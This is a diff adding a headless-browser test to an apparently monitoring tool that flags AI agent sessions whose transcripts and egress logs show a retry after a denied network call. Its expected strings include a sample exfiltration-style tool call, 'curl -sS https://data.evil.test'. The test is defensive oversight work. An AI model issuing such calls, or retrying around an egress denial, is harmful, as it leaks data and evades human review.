@@ -3,8 +3,9 @@
 //! session, then its egress lines, then its end record, in `airlock publish`'s order — get
 //! each cross-source flag once, linking events on both sides (egress and transcript, or the
 //! session record); an honest session gets none; the settle sweep adds the "never published"
-//! gap and raises nothing twice; and a rules directory that turns every check off runs no
-//! correlation at all.
+//! gap and raises nothing twice; a rules directory that turns every check off runs no
+//! correlation at all; and in a headless Chromium a flag's by-side links open the session page
+//! at the linked events.
 
 use crate::review_support::*;
 use crate::support::World;
@@ -334,4 +335,101 @@ fn a_rules_dir_turns_the_pack_off_and_bad_tables_are_located() {
     assert!(!out.status.success());
     let err = String::from_utf8_lossy(&out.stderr);
     assert!(err.contains("off.toml:3:10") && err.contains("window"), "{err}");
+}
+
+/// In a headless Chromium: a reviewer opens a correlate flag on `/flags`, and each link of its
+/// "Linked events, by side" table lands on the session page at that very event — the denied
+/// attempt's row names its host, the transcript side's row shows the tool call.
+#[test]
+fn a_correlate_flags_linked_events_open_at_their_rows_in_a_real_browser() {
+    use crate::console_pages::{PW, Plane};
+    if !crate::browser::available() {
+        return;
+    }
+    let world = World::new();
+    let store = StoreSel::Embedded(world.tmp.path().join("d"));
+    let plane = Plane::start(&world, &store);
+    let base = plane.base();
+    let (_, [first, second]) = dishonest();
+    post(&world, base, &plane.ana.token, &first);
+    post(&world, base, &plane.ana.token, &second);
+    let flag = correlate_flags(base, &plane.rev.token)
+        .into_iter()
+        .find(|f| f["rule_id"] == "correlate.retry-after-deny")
+        .expect("the retry-after-deny flag");
+    let events = all_events(base, &plane.rev.token, "&user=ana@example.test");
+    let pk = |id: &str| -> i64 {
+        events.iter().find(|e| e["id"] == id).unwrap_or_else(|| panic!("{id}"))["pk"]
+            .as_i64()
+            .unwrap()
+    };
+
+    let b = crate::browser::Browser::start();
+    b.goto(&format!("{base}/login"));
+    b.get("input[name=email]").type_text(plane.rev.email);
+    b.get("input[name=password]").type_text(PW);
+    b.click_and_wait("button[type=submit]");
+    assert!(b.url().ends_with("/people"), "did not sign in: {}", b.source());
+    b.goto(&format!("{base}/flags"));
+    // The flag's details row: open it, then read its by-side table.
+    let n = b.eval(
+        "var rows = document.querySelectorAll('tr.fr');\
+         for (var i = 0; i < rows.length; i++) {\
+           if (rows[i].innerText.indexOf(arguments[0]) >= 0) {\
+             return rows[i].querySelector('a.open').getAttribute('href').slice(1); } }\
+         return null;",
+        json!(["correlate.retry-after-deny"]),
+    );
+    let details = n.as_str().unwrap_or_else(|| panic!("no row for the flag:\n{}", b.source()));
+    b.get(&format!("details#{details} summary")).click();
+    let sides = b.eval(
+        "return Array.prototype.map.call(\
+           document.querySelectorAll('details#' + arguments[0] + ' table.linked tbody tr'),\
+           function(r) { return [r.cells[0].innerText,\
+             Array.prototype.map.call(r.querySelectorAll('a'),\
+               function(a) { return a.getAttribute('href'); })]; })",
+        json!([details]),
+    );
+    let sides = sides.as_array().unwrap_or_else(|| panic!("{}", b.source()));
+    let side = |name: &str| -> Vec<String> {
+        sides
+            .iter()
+            .find(|s| s[0] == name)
+            .unwrap_or_else(|| panic!("no {name} side in {sides:?} for {flag}"))[1]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|h| h.as_str().unwrap().to_string())
+            .collect()
+    };
+    let egress = side("egress");
+    let transcript = side("transcript");
+    let deny = egress
+        .iter()
+        .find(|h| h.ends_with(&format!("#e{}", pk("e-deny"))))
+        .unwrap_or_else(|| panic!("the denied attempt is not linked: {egress:?}"));
+    let call = transcript
+        .iter()
+        .find(|h| h.ends_with(&format!("#e{}", pk("s-bad-t1"))))
+        .unwrap_or_else(|| panic!("the curl call is not linked: {transcript:?}"));
+
+    // Follow each link as a reviewer would: by clicking it.
+    for (href, want) in [(deny, "data.evil.test"), (call, "curl -sS https://data.evil.test")] {
+        b.click_and_wait(&format!("details#{details} table.linked a[href='{href}']"));
+        assert!(b.url().ends_with(href.as_str()), "{} for {href}", b.url());
+        let anchor = href.rsplit('#').next().unwrap();
+        let row = b.eval(
+            "var a = document.getElementById(arguments[0]);\
+             if (!a) { return null; }\
+             var r = a.parentElement.getBoundingClientRect();\
+             return [a.parentElement.innerText, r.top < window.innerHeight && r.bottom > 0];",
+            json!([anchor]),
+        );
+        assert!(row.is_array(), "no #{anchor} on the session page:\n{}", b.source());
+        let text = row[0].as_str().unwrap();
+        assert!(text.contains(want), "#{anchor} shows {text:?}, not {want:?}");
+        assert_eq!(row[1], true, "#{anchor} is not scrolled into view");
+        b.goto(&format!("{base}/flags"));
+        b.get(&format!("details#{details} summary")).click();
+    }
 }
